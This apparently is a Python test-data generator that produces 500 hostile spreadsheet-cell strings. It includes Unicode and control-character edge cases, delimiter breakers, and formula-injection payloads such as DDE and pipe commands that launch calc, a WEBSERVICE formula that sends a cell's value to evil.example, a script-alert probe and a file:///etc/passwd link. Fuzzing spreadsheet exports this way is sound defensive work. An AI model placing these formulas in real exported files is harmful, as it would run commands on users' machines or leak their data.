"""500 hostile texts for cells, always the same: what could run, what could break a row, what could break a reader."""

from itertools import cycle, islice, product

COMMANDS = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example";"x")', "DDE(\"cmd\";\"/C calc\";\"x\")",
    "WEBSERVICE(\"https://evil.example/\"&B2)", "INDIRECT(\"R1C1\";0)", "MSEXCEL|'\\..\\..\\calc.exe'!''", "of:=1+1", "Ada Example",
)  # fmt: skip
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "%", "==", "=+", "-=", "+-@")
BEFORE = (
    "", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b", "'", "''", '"', '""', "\t", "\n", "\r", "\r\n", " '\"",
    "Ada;", "Ada; ", "Ada\t", "Ada\n", "Ada\r\n", "Ada,", 'Ada";"', "Ada;'", "\u202e", "\u200f", "\u2068", "\u00ad",
)  # fmt: skip
TEXTS = (
    "محمد علي", "\u202bמשה כהן\u202c", "\u200fשרה", "王小明", "Ұлжан Әбдіғали", "प्रिया शर्मा", "Nguyễn Thị Ánh",
    "a" + "\u0301" * 40, "Z\u0351\u036b\u0343algo", "e\u0301 and é", "👩‍👩‍👧‍👦 family", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scot", "𝒜𝒹𝒶",
    "<script>alert(1)</script>", "&lt;b&gt; & </text:p>", "]]> <![CDATA[ x", "&#61;1+1", "<table:table-cell table:formula='of:=1'/>",
    "x" * 3000, "Ж" * 9000, "Ada, Example", "Ada; Example", "Ada | Example", 'Ada "Ace" Example', "'Ndrangheta", "O'Brien",
    "a\u0001b", "bell\u0007", "escape\u001b[31m", "vertical\u000btab", "form\u000cfeed", "_x000D_", "_x0041_b",
    "no \ufffe sign", "\uffff end", "zero\u200bwidth", "zero\u200cjoin\u200d", "\ufeffBOM first", "two  spaces", " leading", "trailing ",
    "  two  \t tabs\t\t", "two\nlines", "three\r\nlines\rmore", "\n", "\t", " ", "'", '"', "{=1+1}", "$A$1", "#REF!", "TRUE, or so", "Jan von 5",
    "1.234,56 Euro", "1e5 Franken", "12/05 group", "=".join("ab"), "mailto:x@example.org", "https://example.org", "file:///etc/passwd",
)  # fmt: skip


def hostile(wanted: int = 500) -> list[str]:
    """Each of TEXTS, then signs and commands behind everything that a program might skip, spread evenly."""
    made = [f"{before}{sign}{command}" for (before, sign), command in zip(product(BEFORE, SIGNS), cycle(COMMANDS))]
    return list(islice((*TEXTS, *made, *(f"{text} {sign}1" for text in TEXTS for sign in SIGNS)), wanted))
